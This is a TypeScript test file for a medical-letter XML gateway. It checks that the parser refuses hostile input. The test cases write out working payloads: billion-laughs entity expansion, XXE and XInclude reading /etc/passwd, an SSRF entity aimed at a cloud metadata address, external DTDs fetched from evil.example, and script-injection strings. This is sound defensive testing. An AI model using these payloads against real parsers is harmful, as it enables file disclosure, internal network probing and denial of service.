import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { checkLetterXml, parseLetterXml } from '../../gateway/medcom/letter-xml-check.ts';
import { buildLetterXml } from '../../gateway/medcom/letter-xml.ts';
import { letterTableCounts } from '../support/counts.ts';
import { testCpr } from '../support/fixtures.ts';
import type { TestStack } from '../support/stack.ts';
import { expectNoLeak, expectRefused, postJson, send, bearer, startHostileStack } from './hostile-support.ts';

/**
 * No endpoint takes XML from clients: the gateway parses the letters it builds itself. The parser
 * is hardened anyway (a future receipt or import may feed it), so it is tested directly, and XML
 * sent to the letter endpoint is refused by type.
 */

const letter = buildLetterXml({
  letterId: '6f1f3c7e-2b1a-4c1d-9a55-0d1c2f3e4a5b',
  communicationId: '0b7c9a51-3f0e-4c6e-8a4c-2d5f1b7e9c31',
  sentAt: '2026-11-23T10:15:00Z',
  sender: { sorId: '265161000016000', ean: '5790000209354', name: 'Hjerteafdelingen' },
  recipient: { sorId: '382871000016004', ean: '5790001387419', name: 'Arden Lægehus' },
  patient: { cpr: testCpr, given: 'Nancy Ann', family: 'Berggren' },
  category: 'examination-results',
  text: 'Patienten udskrives fredag.',
  author: { name: 'Else Jensen', role: 'sygeplejerske', phone: '44527000' },
  attachments: [],
});
const body = letter.replace(/^<\?xml[^>]*\?>\s*/, '');
const prolog = '<?xml version="1.0" encoding="UTF-8"?>\n';
/** The letter with `inner` placed inside its root, after the first child. */
const inside = (inner: string) => body.replace(/(<Bundle[^>]*>)/, `$1${inner}`);
const narrative = (inner: string) =>
  body.replace('<div xmlns="http://www.w3.org/1999/xhtml">', `<div xmlns="http://www.w3.org/1999/xhtml">${inner}`);
const laughs = [
  '<!DOCTYPE Bundle [',
  '<!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`),
  ']>',
].join('\n');

const cases: Array<[name: string, xml: () => string, refusal: RegExp]> = [
  ['a billion laughs', () => `${prolog}${laughs}\n${inside('<x>&lol9;</x>')}`, /DOCTYPE and ENTITY/],
  [
    'an external entity reading /etc/passwd',
    () => `${prolog}<!DOCTYPE Bundle [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${inside('<x>&xxe;</x>')}`,
    /DOCTYPE and ENTITY/,
  ],
  [
    'an external entity over HTTP (SSRF)',
    () => `<!DOCTYPE Bundle [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>${inside('&xxe;')}`,
    /DOCTYPE and ENTITY/,
  ],
  [
    'a parameter entity with an external DTD',
    () => `<!DOCTYPE Bundle [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]>${body}`,
    /DOCTYPE and ENTITY/,
  ],
  [
    'a public external DTD',
    () => `<!DOCTYPE Bundle PUBLIC "-//X//DTD X//EN" "http://evil.example/x.dtd">${body}`,
    /DOCTYPE and ENTITY/,
  ],
  ['a lower-case doctype with spacing', () => `<! doctype Bundle>${body}`, /DOCTYPE and ENTITY/],
  ['an ENTITY declaration without a DOCTYPE', () => inside('<!ENTITY x "y">'), /DOCTYPE and ENTITY/],
  ['an undeclared entity reference', () => inside('<x>&xxe;</x>'), /undeclared entity/],
  ['an HTML entity (&nbsp;)', () => inside('<x>a&nbsp;b</x>'), /undeclared entity/],
  ['a character reference to NUL', () => inside('<x value="&#0;"/>'), /not allowed in XML/],
  ['a character reference beyond Unicode', () => inside('<x value="&#x110000;"/>'), /not allowed in XML/],
  ['a character reference to a lone surrogate', () => inside('<x value="&#xD800;"/>'), /not allowed in XML/],
  ['10 000 nested elements', () => inside(`${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`), /nested deeper/],
  ['100 000 nested elements, unclosed', () => inside('<a>'.repeat(100_000)), /more than|nested deeper|not well-formed/],
  ['nesting just over the depth limit', () => inside(`${'<a>'.repeat(70)}${'</a>'.repeat(70)}`), /nested deeper/],
  ['a document over the size limit', () => inside(`<x value="${'A'.repeat(17 * 1024 * 1024)}"/>`), /larger than/],
  [
    '200 000 attributes on one element',
    () => inside(`<x ${Array.from({ length: 200_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`),
    /attributes on one element/,
  ],
  ['a million empty elements', () => inside('<a/>'.repeat(1_000_000)), /more than 100000 elements/],
  ['two million character references', () => inside(`<x value="${'&amp;'.repeat(2_000_000)}"/>`), /references/],
  ['two root elements', () => `${body}${body}`, /exactly one root|not well-formed/],
  ['an unclosed root', () => body.replace('</Bundle>', ''), /not well-formed/],
  [
    'an XInclude of /etc/passwd',
    () => inside('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    /outside the FHIR/,
  ],
  [
    'an XSLT instruction',
    () => inside('<xsl:value-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" select="document(\'/etc/passwd\')"/>'),
    /outside the FHIR/,
  ],
  ['a script in the narrative', () => narrative('<script>alert(1)</script>'), /txt-1/],
  ['an event handler in the narrative', () => narrative('<img src="x.png" onerror="alert(1)"/>'), /txt-1/],
  ['a javascript: link in the narrative', () => narrative('<a href=" javascript:alert(1)">Svar</a>'), /txt-1/],
  ['an iframe in the narrative', () => narrative('<iframe src="https://evil.example/"></iframe>'), /txt-1/],
];

describe('hostile XML given to the letter parser', () => {
  it.each(cases)('%s is refused quickly and names no content', (_name, xml, refusal) => {
    const document = xml();
    const started = performance.now();
    const result = checkLetterXml(document, { maxBytes: 16 * 1024 * 1024 });
    const elapsed = performance.now() - started;
    expect(result.ok).toBe(false);
    const errors = result.ok ? [] : result.errors;
    expect(errors.join('\n')).toMatch(refusal);
    expectNoLeak(errors.join('\n'), ['etc/passwd', 'lol', '169.254', 'alert(']);
    expect(elapsed).toBeLessThan(2_000);
  });

  it('still reads the letter it was given, so the refusals above are about the hostile part', () => {
    expect(checkLetterXml(letter)).toMatchObject({ ok: true });
    expect(() => parseLetterXml(inside(`${'<a>'.repeat(40)}${'</a>'.repeat(40)}`))).not.toThrow();
  });
});

let stack: TestStack;
let before: Record<string, number>;
beforeAll(async () => {
  stack = await startHostileStack();
});
afterAll(async () => {
  await stack?.stop();
});
beforeEach(async () => {
  before = await letterTableCounts(stack.database.db);
});

describe('XML sent to POST /v1/messages', () => {
  it.each([
    ['application/xml', 415, 'unsupported-media-type'],
    ['text/xml; charset=utf-8', 415, 'unsupported-media-type'],
    // A MedCom Bundle is received as FHIR XML: its DOCTYPE is refused before any parser sees it.
    ['application/fhir+xml', 422, 'medcom-message-invalid'],
    ['application/xhtml+xml', 415, 'unsupported-media-type'],
  ])('a billion laughs as %s → %i %s', async (contentType, status, code) => {
    const answer = await send(stack.url, {
      headers: { ...bearer(stack), 'Content-Type': contentType },
      body: `${prolog}${laughs}\n${inside('&lol9;')}`,
    });
    await expectRefused(stack, before, answer, status, code);
  });

  it('the letter XML itself sent as application/json → 400 body-malformed', async () => {
    await expectRefused(stack, before, await postJson(stack, letter), 400, 'body-malformed');
  });
});
